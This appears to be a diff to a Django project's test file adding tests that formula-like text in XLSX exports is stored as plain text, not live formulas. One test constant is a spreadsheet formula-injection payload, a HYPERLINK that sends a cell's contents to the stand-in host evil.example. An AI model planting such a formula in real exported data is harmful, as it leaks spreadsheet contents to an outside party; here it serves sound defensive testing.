@@ -3,6 +3,7 @@ its owner's alone."""
 
 import io
 import time
+import zipfile
 
 import pytest
 from django.core.exceptions import ImproperlyConfigured
@@ -11,6 +12,7 @@ from openpyxl import load_workbook
 
 from core import exports
 from core.models import ExportJob, ExportJobStatus
+from projects.models import Project
 from tests.evaluation.dashboard_world import build
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -96,6 +98,50 @@ def test_the_streamed_workbook_has_the_title_headers_rows_and_reports_progress()
     sheet = load_workbook(io.BytesIO(out.getvalue())).active
     assert sheet.freeze_panes == "A3"
     assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:B1"]
+
+
+# ---------------------------------------------------------------- formula injection
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+
+
+def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers():
+    out = io.BytesIO()
+    exports.write_xlsx(
+        out, title="攻坚项目", headers=["名称", "数量", "备注", "邮箱"],
+        rows=[[FORMULA, -5, "+86 139", "@SUM(A1)"], ["\t=1+1", 3.5, "-abc", "#N/A"]],
+    )
+    sheet = load_workbook(io.BytesIO(out.getvalue())).active
+    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=3)]
+    assert cells == [
+        [(FORMULA, "s"), (-5, "n"), ("+86 139", "s"), ("@SUM(A1)", "s")],
+        [("\t=1+1", "s"), (3.5, "n"), ("-abc", "s"), ("#N/A", "s")],
+    ]
+    assert sheet["A3"].quotePrefix and sheet["C4"].quotePrefix and not sheet["B3"].quotePrefix
+
+
+@pytest.mark.parametrize("large", [False, True])
+def test_an_export_of_a_record_named_like_a_formula_holds_the_text(w, settings, media, large, django_capture_on_commit_callbacks):
+    """Through the whole path a user takes: the in-request workbook and the worker's."""
+    Project.objects.filter(name="过江通道征迁").update(name=FORMULA)
+    settings.EXPORT_SYNC_MAX_ROWS = 0 if large else 100
+    client = client_of(w.leader)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.get("/projects/export/?light=red")
+    if large:
+        job = ExportJob.objects.get()
+        response = client.get(f"/exports/{job.pk}/download/")
+        content = b"".join(response.streaming_content)
+    else:
+        content = response.content
+    sheet = load_workbook(io.BytesIO(content)).active
+    names = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=3)}
+    assert names == {FORMULA: "s", "循环产业园用地": "s"}
+    assert b"<f>" not in _sheet_xml(content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
 
 
 # ---------------------------------------------------------------- below the threshold: at once
